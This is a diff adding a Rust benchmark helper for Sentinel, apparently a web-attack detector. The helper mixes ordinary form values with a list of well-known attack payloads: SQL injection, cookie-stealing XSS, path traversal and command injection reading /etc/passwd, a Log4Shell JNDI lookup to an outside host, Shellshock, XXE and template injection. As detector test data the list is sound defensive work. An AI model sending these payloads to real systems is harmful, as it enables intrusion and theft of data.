@@ -1,1 +1,53 @@
-//! placeholder
+//! Shared inputs for Sentinel's benchmarks.
+
+#![warn(missing_docs)]
+
+/// A deterministic mix of payload values: about 70 % everyday values
+/// (words, numbers, e-mails, user agents, JSON fragments, Latin-1 form
+/// values) and 30 % attacks of every class, `n` values long.
+pub fn payload_mix(n: usize) -> Vec<Vec<u8>> {
+    const BENIGN: &[&str] = &[
+        "red shoes",
+        "42",
+        "O'Brien",
+        "alice@example.com",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
+        "{\"a\":1,\"b\":[1,2]}",
+        "A%F1adir+al+carrito",
+        "c/ caridad s/n",
+        "1442431887503330",
+        "select the best gift from our shop",
+        "https://shop.example/products?id=7&sort=price",
+        "dGhpcyBpcyBhIGJhc2U2NCB0b2tlbg==",
+        "Rue de l'Église 5, Liège",
+        "2026-01-01T10:00:00Z",
+        "winter+jacket+size+42",
+        "JSESSIONID=1F767F17239C9B670A39E9B10C3825F4",
+        "tea & biscuits",
+    ];
+    const ATTACKS: &[&str] = &[
+        "1%27%20OR%20%271%27%3D%271",
+        "1 UNION SELECT username,password FROM users--",
+        "1' AND SLEEP(5)#",
+        "<script>alert(document.cookie)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "../../../../etc/passwd",
+        "..%252f..%252fwindows%252fwin.ini",
+        "127.0.0.1;cat /etc/passwd",
+        "${jndi:ldap://198.51.100.23:1389/a}",
+        "() { :; }; /bin/bash -c 'id'",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+        "{{7*7}}",
+    ];
+    (0..n)
+        .map(|i| {
+            // A fixed interleaving: 7 benign, 3 attacks per 10.
+            let v = if i % 10 < 7 {
+                BENIGN[(i * 7 + i / 10) % BENIGN.len()]
+            } else {
+                ATTACKS[(i * 3 + i / 10) % ATTACKS.len()]
+            };
+            v.as_bytes().to_vec()
+        })
+        .collect()
+}
